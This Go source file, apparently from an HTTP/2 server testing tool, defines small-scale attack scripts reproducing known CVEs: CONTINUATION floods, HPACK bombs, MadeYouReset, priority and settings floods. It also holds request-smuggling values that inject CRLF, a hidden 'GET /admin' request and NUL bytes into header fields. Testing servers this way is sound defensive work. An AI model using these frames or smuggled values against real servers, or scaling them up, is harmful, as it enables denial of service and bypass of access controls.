package endpoint

import (
	"bytes"
	"strconv"
	"strings"

	"golang.org/x/net/http2"
)

// attackScripts are attacks on servers, at a scale that harms nobody. What makes
// each an attack is its number, which here is a few dozen.
func attackScripts() []Script {
	const n = 32
	open := func(run ...Step) []Step { return steps(hello(nil, nil), run) }
	return []Script{
		{Name: "attack-made-you-reset", Also: []string{"FC-03"}, Title: "requests that make the server reset them", Steps: open(madeYouReset(n)...)},
		{Name: "attack-continuation", Also: []string{"CO-04", "ST-13"}, Title: "a field block that does not end", Steps: open(endlessBlock(n))},
		{Name: "attack-dribble", Also: []string{"ST-13"}, Title: "a body octet by octet, in frames of their own", Steps: open(dribble(n))},
		{Name: "attack-pings", Title: "pings that nobody can answer in time", Steps: open(repeat(n, func(i int) Action { return Ping{Opaque: opaque(strconv.Itoa(i))} }))},
		{Name: "attack-priorities", Title: "streams moved about in the tree, over and over", Steps: open(repeat(n, turnTree))},
		{Name: "attack-settings", Title: "settings to acknowledge, over and over", Steps: open(repeat(n, func(i int) Action {
			return Settings{setting(http2.SettingInitialWindowSize, uint32(65535+i))}
		}))},
		{Name: "attack-empty-frames", Also: []string{"FR-18", "ST-13"}, Title: "frames without anything in them", Steps: open(
			client(Headers{Stream: 1, Fields: request("POST", "/")}), repeat(n, func(int) Action { return Data{Stream: 1} }))},
		{Name: "attack-empty-names", Also: []string{"HD-33", "ST-13"}, Title: "fields with neither name nor value", Steps: open(emptyNames(n))},
		{Name: "attack-hpack-bomb", Also: []string{"ST-13"}, Title: "one entry of the table, named again and again", Steps: open(hpackBomb(n * 16))},
		{Name: "attack-field-count", Also: []string{"ST-13"}, Title: "more fields than anyone has use for", Steps: open(fieldCount(n * 16))},
		{Name: "attack-windows", Title: "windows opened octet by octet", Steps: open(repeat(n, func(int) Action { return WindowUpdate{Increment: 1} }))},
		{Name: "attack-table-size", Also: []string{"ST-13"}, Title: "a table emptied and filled in turn", Steps: open(tableFlipFlop(n)...)},
		{Name: "attack-smuggling", Also: []string{"HD-02", "HD-03", "HD-05", "HD-12", "HD-15", "HD-25", "ST-13"}, Title: "field values that are requests to an HTTP/1.1 server behind", Steps: open(smuggling()...)},
	}
}

// repeat sends n frames at once, all of the client.
func repeat(n int, frame func(i int) Action) Step {
	var send []Action
	for i := range n {
		send = append(send, frame(i))
	}
	return client(send...)
}

// madeYouReset is CVE-2025-8671: the client breaks a rule on a stream whose
// request has been accepted, and the server itself has to reset it.
func madeYouReset(n int) []Step {
	var run []Step
	for i := range n {
		id := uint32(2*i + 1)
		run = append(run,
			client(get(id, "/work"), WindowUpdate{Stream: id, Increment: 0}),
			server(ResetStream{Stream: id, Code: http2.ErrCodeProtocol}),
		)
	}
	return run
}

// endlessBlock is CVE-2024-27316 and its kin: CONTINUATION without END_HEADERS.
// It is the last that the client sends: the block is never complete.
func endlessBlock(n int) Step {
	s := newSpeaker(Client)
	block := s.encode(request("GET", "/"))
	send := []Action{Raw{Type: http2.FrameHeaders, Flags: http2.FlagHeadersEndStream, Stream: 1, Payload: block}}
	for i := range n {
		send = append(send, Raw{Type: http2.FrameContinuation, Stream: 1, Payload: s.encode(fields("x-more", strconv.Itoa(i)))})
	}
	return client(send...)
}

// dribble is CVE-2019-9511.
func dribble(n int) Step {
	send := []Action{Headers{Stream: 1, Fields: request("POST", "/")}}
	for _, octet := range text(n) {
		send = append(send, Data{Stream: 1, Body: []byte{octet}, Pad: []byte{}})
	}
	return client(append(send, last(1, nil))...)
}

// turnTree is CVE-2019-9513: each frame moves a part of the tree.
func turnTree(i int) Action {
	return Priority{Stream: uint32(2*(i%5) + 1), PriorityParam: http2.PriorityParam{
		StreamDep: uint32(2*((i+1)%5) + 1), Exclusive: i%2 == 0, Weight: uint8(i),
	}}
}

// emptyNames is CVE-2019-9516: literals with a name and a value of no octets.
func emptyNames(n int) Step {
	s := newSpeaker(Client)
	section := request("GET", "/")
	block := s.encode(section)
	for range n {
		section = append(section, fields("", "")...)
		block = append(block, 0x00, 0x00, 0x00) // without indexing, two empty strings
	}
	return client(Headers{Stream: 1, Fields: section, Block: block, EndStream: true})
}

// hpackBomb puts one long value into the table and names it n times, an octet
// each (CVE-2016-6581).
func hpackBomb(n int) Step {
	long := fields("x-bomb", strings.Repeat("bomb", 100))
	section := append(request("GET", "/"), long...)
	s := newSpeaker(Client)
	block := s.encode(section)
	for range n {
		section = append(section, long...)
	}
	block = append(block, bytes.Repeat([]byte{0x80 | 62}, n)...) // the newest entry (RFC 7541, Section 2.3.3)
	return client(Headers{Stream: 1, Fields: section, Block: block, EndStream: true})
}

func fieldCount(n int) Step {
	section := request("GET", "/")
	for i := range n {
		section = append(section, fields("x-"+strconv.Itoa(i), "")...)
	}
	return client(Headers{Stream: 1, Fields: section, EndStream: true})
}

func tableFlipFlop(n int) []Step {
	var run []Step
	for i := range n {
		ask := get(uint32(2*i+1), "/", "x-filler", strconv.Itoa(i))
		run = append(run, client(TableSize(0), TableSize(4096), ask))
	}
	return run
}

// smuggling has what would be another request, or another length, once a proxy
// has written it as HTTP/1.1 (RFC 9113, Section 10.3).
func smuggling() []Step {
	return []Step{
		client(Headers{Stream: 1, Fields: request("POST", "/", "content-length", "0", "transfer-encoding", "chunked")}, last(1, []byte("0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n"))),
		client(get(3, "/ HTTP/1.1\r\nHost: inner\r\n\r\nGET /x")),
		client(get(5, "/", "x-injected", "1\r\nx-admin: yes", "x-nul", "a\x00b")),
		client(get(7, "/", "x-colon: 1\r\nx-name", "2")),
		client(Headers{Stream: 9, Fields: append(fields(":method", "GET /admin HTTP/1.1\r\nx: ", ":scheme", "http", ":path", "/", ":authority", authority), fields("host", "other.example")...), EndStream: true}),
	}
}
